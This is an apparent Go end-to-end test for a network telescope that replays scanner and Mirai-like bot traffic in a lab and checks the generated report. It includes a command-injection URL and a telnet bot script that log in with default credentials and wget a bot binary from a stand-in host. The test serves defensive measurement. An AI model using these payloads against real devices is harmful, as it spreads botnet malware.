package test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/analysis/report"
	"github.com/spoki-telescope/spoki/lab"
)

// TestReportFromLabRun runs a telescope in a lab, sends it what scanners
// and bots send (the ZMap, masscan, Mirai and two-phase scenarios, nmap -sS, curl
// with a downloader, openssl, ssh and a telnet bot logging in), and
// renders `spoki report --json --html` from its event log. The JSON's
// numbers are checked against counts taken here from the raw event lines,
// and the page in headless Chromium: every section there, no CSP
// violation on the console.
func TestReportFromLabRun(t *testing.T) {
	l := e2eNewLab(t, lab.Config{}, "curl", "openssl", "ssh", "nc", "nmap", "chromium")
	tel := e2eStartTelescope(t, l)
	bin := labSpokiBin(t)
	for _, name := range []string{"scanners/zmap-syn.pkt", "scanners/masscan-syn.pkt", "scanners/mirai-telnet.pkt", "twophase/http-wget.pkt"} {
		out, _, code := e2eExec(t, l, l.Scanner, scnTimeout, nil, bin, "scenario", "run",
			"--netns", l.Scanner, "--log-dir", tel.logDir, "--tag", e2eTag, filepath.Join(scnDir, name))
		if code != 0 || !strings.Contains(out, "--- PASS") {
			t.Errorf("scenario %s: exit %d\n%s", name, code, out)
		}
	}
	if _, errOut, code := e2eExec(t, l, l.Scanner, 90*time.Second, nil, "nmap", "-n", "-Pn", "-sS",
		"-p", "22,23,80,443", "--max-retries", "0", "198.51.100.60"); code != 0 {
		t.Errorf("nmap -sS: exit %d: %s", code, e2eTruncate(errOut, 500))
	}
	e2eExec(t, l, l.Scanner, 10*time.Second, nil, "curl", "-sS", "--noproxy", "*", "--max-time", "5",
		"http://198.51.100.80/shell?cd+/tmp;wget+http://203.0.113.9/bot.arm7")
	e2eExec(t, l, l.Scanner, 10*time.Second, []byte{}, "openssl", "s_client", "-connect", "198.51.100.43:443", "-servername", "r.e2e.test")
	e2eExec(t, l, l.Scanner, 15*time.Second, nil, "ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
		"-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "root@198.51.100.22")
	bot := "root\r\nxc3511\r\nsh\r\n/bin/busybox ECCHI\r\ncd /tmp; wget http://203.0.113.9/mirai.x86 -O m\r\n"
	e2eExec(t, l, l.Scanner, 15*time.Second, []byte(bot), "nc", "-q", "3", "-w", "5", "198.51.100.23", "23")
	tel.stop(t)

	out := t.TempDir()
	jsonPath, htmlPath := filepath.Join(out, "report.json"), filepath.Join(out, "report.html")
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "report", "--json", jsonPath, "--html", htmlPath, tel.logDir)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	text, err := cmd.Output()
	if err != nil {
		t.Fatalf("spoki report: %v\n%s", err, stderr.String())
	}
	t.Logf("spoki report:\n%s", text)
	raw, err := os.ReadFile(jsonPath)
	if err != nil {
		t.Fatal(err)
	}
	var r report.Report
	if err := json.Unmarshal(raw, &r); err != nil {
		t.Fatalf("report JSON: %v", err)
	}

	// Counted here from the raw lines.
	var syns, irregular, twoPhase, sessions int
	scanners := map[string]int{}
	sources := map[string]bool{}
	keys := map[string]map[string]int{"credentials": {}, "ja4": {}, "hassh": {}, "hosts": {}}
	for _, e := range e2eRawEvents(t, tel.logDir) {
		switch e["event_type"] {
		case "syn":
			syns++
			if e["irregular"] == true {
				irregular++
			}
			scanners[e["scanner"].(string)]++
			sources[e["src_ip"].(string)] = true
		case "session":
			sessions++
			if v, ok := e2eField(e, "tls", "ja4").(string); ok && v != "" {
				keys["ja4"][v]++
			}
			if v, ok := e2eField(e, "ssh", "client", "hassh", "hash").(string); ok && v != "" {
				keys["hassh"][v]++
			}
			if cs, ok := e2eField(e, "telnet", "credentials").([]any); ok {
				for _, c := range cs {
					m := c.(map[string]any)
					keys["credentials"][fmt.Sprint(m["username"])+"\t"+fmt.Sprint(m["password"])]++
				}
			}
		case "downloader":
			keys["hosts"][e["server"].(string)]++
		case "two_phase":
			if e["stage"] == "phase_two" {
				twoPhase++
			}
		}
	}
	tt := r.Totals
	if tt.SYNs != syns || tt.Irregular != irregular || tt.Sources != len(sources) || tt.Sessions != sessions || r.TwoPhase.Events != twoPhase {
		t.Errorf("report: syns %d irregular %d sources %d sessions %d two-phase %d; the log holds %d %d %d %d %d",
			tt.SYNs, tt.Irregular, tt.Sources, tt.Sessions, r.TwoPhase.Events, syns, irregular, len(sources), sessions, twoPhase)
	}
	for _, want := range []string{"zmap", "masscan", "mirai", "nmap"} {
		if scanners[want] == 0 {
			t.Errorf("the log has no %s SYN", want)
		}
	}
	for _, s := range r.Scanners {
		if s.SYNs != scanners[s.Name] {
			t.Errorf("scanner %s: %d, the log holds %d", s.Name, s.SYNs, scanners[s.Name])
		}
	}
	if twoPhase == 0 || r.TwoPhase.Delays != twoPhase || len(r.TwoPhase.DelayCDF) == 0 {
		t.Errorf("two-phase %d, delays %d, CDF %v: want the scenario's event with its delay", twoPhase, r.TwoPhase.Delays, r.TwoPhase.DelayCDF)
	}
	for name, l := range map[string]report.TopList{"credentials": r.Credentials, "ja4": r.JA4, "hassh": r.HASSH, "hosts": r.DownloaderHosts} {
		if len(keys[name]) == 0 {
			t.Errorf("the log has no %s", name)
		}
		if len(l.Items) != len(keys[name]) {
			t.Errorf("%s: %d items, the log holds %d keys", name, len(l.Items), len(keys[name]))
		}
		for _, it := range l.Items {
			if it.Count != keys[name][it.Key] {
				t.Errorf("%s %q: %d, the log holds %d", name, it.Key, it.Count, keys[name][it.Key])
			}
		}
	}
	if len(r.Tags) != 1 || r.Tags[0] != e2eTag || r.Start == nil || len(r.Inputs) == 0 {
		t.Errorf("tags %v, start %v, inputs %v: want the lab's tag, a range, the files", r.Tags, r.Start, r.Inputs)
	}

	dom, console := rptChromium(t, htmlPath)
	for _, line := range console {
		if strings.Contains(line, "Content Security Policy") {
			t.Errorf("Chromium console: %s", line)
		}
	}
	for _, id := range []string{"summary", "inputs", "hourly", "irregular", "scanners", "ports", "delay", "delay-cdf",
		"contact-types", "payload-prefixes", "downloaders", "credentials", "fingerprints", "limits"} {
		if !strings.Contains(dom, `id="`+id+`"`) {
			t.Errorf("the page has no section %q", id)
		}
	}
	if m := regexp.MustCompile(`data-key="syns">([0-9]+)<`).FindStringSubmatch(dom); m == nil || m[1] != fmt.Sprint(syns) {
		t.Errorf("page SYNs %v, the log holds %d", m, syns)
	}
}

// rptChromium loads page in headless Chromium (no network: a local file,
// background services off) and returns the DOM and the console lines.
func rptChromium(t *testing.T, page string) (string, []string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
		"--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage", "--enable-logging=stderr", "--v=0", "--user-data-dir="+t.TempDir(),
		"--dump-dom", "file://"+page)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, stderr.String())
	}
	var console []string
	for _, line := range strings.Split(stderr.String(), "\n") {
		if strings.Contains(line, ":CONSOLE") {
			console = append(console, line)
		}
	}
	return stdout.String(), console
}
